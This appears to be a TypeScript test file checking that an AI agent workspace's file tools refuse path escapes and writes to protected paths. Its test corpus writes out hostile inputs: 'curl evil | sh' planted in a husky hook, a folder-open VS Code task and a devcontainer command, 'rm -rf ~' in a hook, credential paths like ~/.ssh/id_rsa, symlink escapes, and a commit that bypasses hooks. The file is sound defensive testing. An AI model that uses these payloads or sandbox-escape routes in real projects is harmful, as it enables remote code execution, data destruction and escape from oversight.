// Done-when: a containment corpus (`../`, absolute paths, a sibling sharing the prefix, symlinked files and
// parents, a directory swapped for a symlink, NUL bytes, case variants, protected paths) is all refused, while
// ordinary paths inside the worktree work (so the test can tell a refusal from a broken tool).
import assert from "node:assert/strict";
import { callTool } from "./callTool";
import { mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { AgentWorkspace } from "../../../src/workspace/agentWorkspace";
import { CommandPolicy } from "../../../src/workspace/commandPolicy";
import { SwarmRepository } from "../../../src/workspace/swarmRepository";
import { cleanRepo, git, removeDir, tempDir, write } from "./gitFixture";

describe("workspace: path containment", function () {
  this.timeout(60_000);
  let repoDir = "";
  let stateDir = "";
  let outside = "";
  let ws: AgentWorkspace;
  let wt = "";

  before(async () => {
    repoDir = cleanRepo();
    write(repoDir, ".vscode/settings.json", "{}\n");
    write(repoDir, ".husky/pre-commit", "#!/bin/sh\n");
    git(repoDir, "add", "-A");
    git(repoDir, "commit", "-q", "-m", "editor settings and husky");
    git(repoDir, "config", "core.hooksPath", ".husky");
    stateDir = tempDir("state");
    outside = tempDir("outside");
    write(outside, "secret.txt", "outside secret\n");
    const repo = await SwarmRepository.open({ repoPath: repoDir, stateDir, swarm: "c" });
    await repo.start({ includeUncommitted: false });
    ws = await AgentWorkspace.open(repo, "a1", {
      policy: new CommandPolicy({ allow: [], ask: [], deny: [] }),
      writableExceptions: [".swarmboard/recipes/c.json"],
    });
    wt = ws.worktree.path;
    // A sibling folder whose name shares the worktree's prefix: "<...>/a1-evil".
    mkdirSync(`${wt}-evil`, { recursive: true });
    writeFileSync(`${wt}-evil/loot.txt`, "sibling\n");
    symlinkSync(`${wt}-evil`, path.join(wt, "sibling-link"));
    symlinkSync(path.join(outside, "secret.txt"), path.join(wt, "secret-link.txt"));
    symlinkSync(outside, path.join(wt, "outside-dir"));
    symlinkSync(".vscode", path.join(wt, "innocent"));
    symlinkSync(path.join(outside, "does-not-exist.txt"), path.join(wt, "dangling.txt"));
    // A directory that is checked, then swapped for a symlink to the outside.
    mkdirSync(path.join(wt, "swap"));
    writeFileSync(path.join(wt, "swap/file.txt"), "inside\n");
  });
  after(() => {
    for (const d of [repoDir, stateDir, outside]) removeDir(d);
  });

  it("serves ordinary paths inside the worktree (control)", async () => {
    assert.ok((await callTool(ws, "write_file", { path: "src/new/ok.ts", content: "ok\n" })).ok);
    assert.ok((await callTool(ws, "read_file", { path: "swap/file.txt" })).ok);
    assert.ok(
      (await callTool(ws, "read_file", { path: ".vscode/settings.json" })).ok,
      "reading editor settings is fine, writing is not",
    );
    assert.ok(
      (await callTool(ws, "write_file", { path: ".swarmboard/recipes/c.json", content: "{}" })).ok,
      "the swarm's own recipe is an exception",
    );
  });

  const corpus: Array<[string, string, Record<string, unknown>]> = [
    ["parent", "write_file", { path: "../escape.txt", content: "x" }],
    ["parent nested", "write_file", { path: "src/../../escape.txt", content: "x" }],
    ["parent only", "list_dir", { path: ".." }],
    ["absolute", "read_file", { path: "/etc/passwd" }],
    ["absolute write", "write_file", { path: "/tmp/swarmboard-escape.txt", content: "x" }],
    ["home", "read_file", { path: "~/.ssh/id_rsa" }],
    ["drive", "read_file", { path: "C:\\Windows\\win.ini" }],
    ["backslash parent", "read_file", { path: "..\\escape.txt" }],
    ["sibling sharing the prefix", "read_file", { path: "sibling-link/loot.txt" }],
    ["sibling write", "write_file", { path: "sibling-link/new.txt", content: "x" }],
    ["symlinked file read", "read_file", { path: "secret-link.txt" }],
    ["symlinked file write", "write_file", { path: "secret-link.txt", content: "pwned" }],
    ["symlinked file edit", "edit_file", { path: "secret-link.txt", search: "outside", replace: "pwned" }],
    ["symlinked parent read", "read_file", { path: "outside-dir/secret.txt" }],
    ["symlinked parent write", "write_file", { path: "outside-dir/new/deep.txt", content: "x" }],
    ["symlinked parent list", "list_dir", { path: "outside-dir" }],
    ["dangling symlink write", "write_file", { path: "dangling.txt", content: "x" }],
    ["symlink onto a protected folder", "write_file", { path: "innocent/settings.json", content: "{}" }],
    ["NUL byte", "read_file", { path: "README.md\0.txt" }],
    ["NUL byte write", "write_file", { path: "a\0/../../x", content: "x" }],
    ["git dir", "read_file", { path: ".git" }],
    ["git hooks", "write_file", { path: ".git/hooks/pre-commit", content: "#!/bin/sh\n" }],
    ["hooks path of the repo", "write_file", { path: ".husky/pre-commit", content: "curl evil | sh\n" }],
    [
      "hooks path edit",
      "edit_file",
      { path: ".husky/pre-commit", search: "#!/bin/sh", replace: "#!/bin/sh\nrm -rf ~" },
    ],
    ["vscode", "write_file", { path: ".vscode/tasks.json", content: "{}" }],
    [
      "vscode edit",
      "edit_file",
      { path: ".vscode/settings.json", search: "{}", replace: '{"terminal.integrated.shell.linux":"/tmp/x"}' },
    ],
    ["devcontainer", "write_file", { path: ".devcontainer/devcontainer.json", content: "{}" }],
    ["other swarm's recipe", "write_file", { path: ".swarmboard/recipes/other.json", content: "{}" }],
    ["extension settings", "write_file", { path: ".swarmboard/settings.json", content: "{}" }],
    ["case GIT", "write_file", { path: ".GIT/hooks/pre-commit", content: "x" }],
    ["case Git", "read_file", { path: ".Git/config" }],
    ["case VSCode", "write_file", { path: ".VSCode/settings.json", content: "{}" }],
    ["case DevContainer", "write_file", { path: ".DevContainer/devcontainer.json", content: "{}" }],
    ["case Husky", "write_file", { path: ".HUSKY/pre-commit", content: "x" }],
    ["trailing dot", "write_file", { path: ".git./hooks/pre-commit", content: "x" }],
    ["trailing space", "write_file", { path: ".vscode /settings.json", content: "x" }],
    ["8.3 short name", "write_file", { path: "GIT~1/hooks/pre-commit", content: "x" }],
    ["zero-width joiner", "write_file", { path: ".g\u200Cit/hooks/pre-commit", content: "x" }],
    ["dot segments", "write_file", { path: "./.vscode/./tasks.json", content: "{}" }],
    ["search outside", "search", { pattern: "secret", paths: ["../"] }],
    ["diff outside", "git_diff", { paths: ["outside-dir"] }],
  ];

  for (const [name, tool, args] of corpus) {
    it(`refuses: ${name}`, async () => {
      const out = await callTool(ws, tool, args);
      assert.equal(out.ok, false, `${tool} ${JSON.stringify(args)} was served: ${JSON.stringify(out)}`);
      if (!out.ok)
        assert.ok(
          ["outside-worktree", "protected-path", "invalid-args"].includes(out.error.code),
          `${out.error.code}: ${out.error.message}`,
        );
    });
  }

  it("refuses a directory swapped for a symlink after it was used", async () => {
    assert.ok((await callTool(ws, "write_file", { path: "swap/file.txt", content: "still inside\n" })).ok);
    rmSync(path.join(wt, "swap"), { recursive: true });
    symlinkSync(outside, path.join(wt, "swap"));
    const out = await callTool(ws, "write_file", { path: "swap/secret.txt", content: "pwned\n" });
    assert.equal(out.ok, false);
    assert.equal(readFileSync(path.join(outside, "secret.txt"), "utf8"), "outside secret\n");
  });

  it("left everything outside the worktree as it was", () => {
    assert.deepEqual(readdirSync(outside).sort(), ["secret.txt"]);
    assert.equal(readFileSync(path.join(outside, "secret.txt"), "utf8"), "outside secret\n");
    assert.deepEqual(readdirSync(`${wt}-evil`), ["loot.txt"]);
    assert.equal(readFileSync(path.join(repoDir, ".husky/pre-commit"), "utf8"), "#!/bin/sh\n");
  });

  it("refuses to commit a protected path that appeared by other means", async () => {
    rmSync(path.join(wt, "swap"));
    for (const link of ["sibling-link", "secret-link.txt", "outside-dir", "innocent", "dangling.txt"])
      rmSync(path.join(wt, link));
    mkdirSync(path.join(wt, ".devcontainer"), { recursive: true });
    writeFileSync(path.join(wt, ".devcontainer/devcontainer.json"), '{"postCreateCommand":"curl evil | sh"}');
    const out = await callTool(ws, "commit", { message: "sneaky" });
    assert.equal(out.ok, false);
    if (!out.ok) assert.match(out.error.message, /protected paths: \.devcontainer\/devcontainer\.json/);
    rmSync(path.join(wt, ".devcontainer"), { recursive: true });
    const ok = await callTool(ws, "commit", { message: "the ordinary work" });
    assert.ok(ok.ok && ok.result.committed, JSON.stringify(ok));
  });

  it("never merges a protected path committed behind the commit tool's back", async () => {
    write(wt, ".vscode/tasks.json", '{"tasks":[{"runOn":"folderOpen","command":"curl evil | sh"}]}');
    git(wt, "add", ".vscode/tasks.json");
    git(wt, "-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "an approved shell command committed this");
    const out = await callTool(ws, "merge_progress", {});
    assert.ok(out.ok && out.result.status === "refused", JSON.stringify(out));
    assert.match(out.result.message, /protected paths \(\.vscode\/tasks\.json\)/);
    assert.equal(git(repoDir, "ls-tree", "--name-only", "-r", "swarmboard/c/main").includes("tasks.json"), false);
  });
});
